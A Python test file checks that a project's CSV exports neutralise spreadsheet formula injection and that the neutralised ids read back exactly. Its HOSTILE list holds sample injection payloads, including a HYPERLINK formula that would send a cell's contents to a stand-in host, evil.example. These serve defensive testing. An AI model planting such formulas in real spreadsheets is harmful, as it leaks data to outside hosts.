"""`annotate export` neutralises spreadsheet formulas in the cells people open (OWASP CSV injection) and
`align` reads the neutralised cells back to the same ids."""

from __future__ import annotations

import csv
import json
import sys
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fixtures" / "alignment"))
from builders import is_number as _is_number  # noqa: E402
from builders import make_run

from wikihowagent.alignment.core import compute  # noqa: E402
from wikihowagent.alignment.export import export_sheet  # noqa: E402
from wikihowagent.alignment.problems import Problems  # noqa: E402
from wikihowagent.csvcells import neutralise  # noqa: E402

DANGER = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\tcmd",
    "\r=1",
    "'=already quoted",
    "plain title",
]


def hostile_runs(root: Path) -> list[Path]:
    """Two runs whose names, conversation ids, tutorial ids and titles start like formulas."""
    tids = ["=a", "+b", "-c", "@d", "\te", "f", "'=g", "h"]
    paths = []
    for run in ("=run", "@run2"):
        make_run(root, run, tids, teacher="x", learner="y")
        d = root / run
        for name in ("conversations.jsonl", "scores.jsonl"):
            recs = [json.loads(line) for line in (d / name).read_text().splitlines()]
            for rec, title in zip(recs, HOSTILE, strict=True):
                rec["title"] = title
            (d / name).write_text("".join(json.dumps(r) + "\n" for r in recs))
        paths.append(d)
    return paths


def cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_neutralise_is_exactly_undone():
    from wikihowagent.csvcells import neutralise, unneutralise

    for s in [*HOSTILE, "", "'", "''", "'x", "''=x", "=", "-1", "a=b"]:
        n = neutralise(s)
        assert (not n.startswith(DANGER) or s == "-1") and unneutralise(n) == s, s  # a number is not a formula
    assert neutralise("=1+1") == "'=1+1" and neutralise("plain") == "plain"


def test_sheet_and_key_cells_never_start_a_formula_and_read_back(tmp_path):
    runs = hostile_runs(tmp_path / "runs")
    for blind in (True, False):
        out = tmp_path / ("blind" if blind else "plain") / "sheet.csv"
        sel, sheet, _ = export_sheet(runs, out, Problems(), n=8, blind=blind)
        files = [sheet, *([out.with_name("sheet.key.csv")] if blind else [])]
        for f in files:
            rows = cells(f)
            assert len(rows) == 17
            for row in rows:
                for c in row:
                    assert not c.startswith(DANGER), (f.name, c)
        text = "".join(f.read_text(encoding="utf-8") for f in files)
        assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text and "''=already quoted" in text
        if not blind:
            assert "'=run-=a" in text and ",'+b\n" in text  # ids and tutorial ids too
        # a judge fills the sheet in; align maps every row back to its conversation
        rows = cells(sheet)
        for r in rows[1:]:
            r[3:11] = ["4"] * 8
        judge = out.with_name("alice.csv")
        with open(judge, "w", newline="", encoding="utf-8") as fh:
            csv.writer(fh).writerows(rows)
        real = sorted(c.conversation_id for c in sel.conversations)
        assert any(cid.startswith("=") for cid in real) and any(cid.startswith("@") for cid in real)
        res = compute([judge], [], n_boot=0, problems=Problems(), runs_dir=tmp_path / "runs")
        assert sorted(res.ids) == real and res.matched.all()


def test_align_tables_neutralise_text_keep_numbers_and_the_report_reads_them_back(tmp_path):
    """correlations.csv (and every other table `align` writes) is opened by people: a run named like a formula
    must not run, a negative correlation stays a number, and the report shows the run's real name."""
    import numpy as np

    from wikihowagent.alignment.core import write_outputs
    from wikihowagent.csvcells import read_people_csv
    from wikihowagent.report.sources import Problems as ReportProblems
    from wikihowagent.report.tables import copy_alignment

    runs = hostile_runs(tmp_path / "runs")
    out = tmp_path / "sheet.csv"
    export_sheet(runs, out, Problems(), n=8, blind=False)
    rows = cells(out)
    rng = np.random.default_rng(3)
    for r in rows[1:]:
        r[3:11] = [str(v) for v in rng.integers(1, 6, 8)]
    judge = tmp_path / "alice.csv"
    with open(judge, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    res = compute([judge], runs, by="run", n_boot=0, problems=Problems())
    align_out = tmp_path / "alignment"
    write_outputs(res, align_out, [judge], figures=False)

    negatives = 0
    for name in ("correlations.csv", "descriptives.csv", "paired_scores.csv"):
        for row in cells(align_out / name):
            for c in row:
                assert _is_number(c) or not c.startswith(DANGER), (name, c)
                negatives += c.startswith("-") and _is_number(c)
    assert negatives > 0  # negative numbers are written as numbers, not as text
    table = read_people_csv(align_out / "correlations.csv")
    head = table[0]
    assert {r[head.index("group")] for r in table[1:]} == {"all", "=run", "@run2"}
    paired = read_people_csv(align_out / "paired_scores.csv")
    assert {r[0] for r in paired[1:]} == set(res.ids)  # "=run-=a", "@run2-\te", ... read back exactly
    assert any(cid.startswith("=") for cid in res.ids)

    site = tmp_path / "site"
    site.mkdir()
    html_text = copy_alignment(site, align_out, ReportProblems())
    assert "<td>=run</td>" in html_text and "<td>@run2</td>" in html_text and "&#x27;=run" not in html_text


_NEUTRALISED_IDS = st.lists(
    st.builds(
        lambda quotes, start, rest: quotes + start + rest,
        st.text(alphabet="'", max_size=2),
        st.sampled_from(DANGER),
        st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=8),
    ).filter(lambda cid: neutralise(cid) != cid),  # "-1" is a number, written as it is
    min_size=1,
    max_size=4,
    unique=True,
)


@settings(max_examples=150, deadline=None)
@given(_NEUTRALISED_IDS)
def test_a_neutralised_id_reads_back_exactly_from_every_csv_people_open(tmp_path_factory, ids):
    """A sheet, its key file and the tables (leading tab, CR, apostrophe and all): the id as it was written."""
    import pandas as pd

    from wikihowagent.alignment.annotations import read_human_file
    from wikihowagent.alignment.blind import key_csv, read_key
    from wikihowagent.alignment.csv_dialect import csv_text
    from wikihowagent.alignment.schema import sheet_columns
    from wikihowagent.csvcells import people_csv, read_people_csv, read_people_frame

    d = tmp_path_factory.mktemp("ids")
    sheet = d / "alice.csv"
    sheet.write_text(csv_text(sheet_columns(), [[cid, "run", "t", *["4"] * 8, "", "tut"] for cid in ids]), newline="")
    problems = Problems()
    [judge] = read_human_file(sheet, problems)
    assert list(judge.scores) == ids and not list(problems)
    key = d / "alice.key.csv"
    key.write_text(key_csv([(f"b{i:010x}", cid, "=run", "tut", "t") for i, cid in enumerate(ids)]), newline="")
    assert [cid for cid, _ in read_key(key, Problems()).values()] == ids
    table = d / "paired_scores.csv"
    people_csv(pd.DataFrame({"conversation_id": ids, "n": range(len(ids))}), table)
    assert [row[0] for row in read_people_csv(table)[1:]] == ids
    assert list(read_people_frame(table)["conversation_id"]) == ids
